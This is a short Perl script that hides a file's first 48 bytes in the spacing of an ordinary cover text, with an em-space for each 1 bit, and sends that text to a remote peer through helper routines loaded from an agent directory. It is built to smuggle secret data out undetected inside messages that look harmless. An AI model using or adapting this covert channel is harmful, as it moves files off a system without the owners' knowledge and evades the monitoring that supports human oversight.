#!/usr/bin/perl
# hide.pl HOW FILE TO SECONDS OTHER...: a file leaves inside of what has to leave anyway.
#
# blanks: OTHER is sent, and the blanks behind its words are the bits of the file, wide for 1
require '/opt/agent/peer.pl';
my ($how, $path, $to, $seconds, @others) = @ARGV;
my $secret = whole($path);

if ($how eq 'blanks') {
    my @bits = split //, unpack 'B*', substr $secret, 0, 48;
    my $text = '';
    while (@bits) {
        $text .= $_ . (@bits && shift @bits ? "\x{2}" : ' ') for split / /, whole($others[0]);
    }
    my $peer = reached($to);
    sent($peer, $text =~ s/\x02/\xe2\x80\x83/gr);
    ended($peer);
} else {
    exit 2;
}
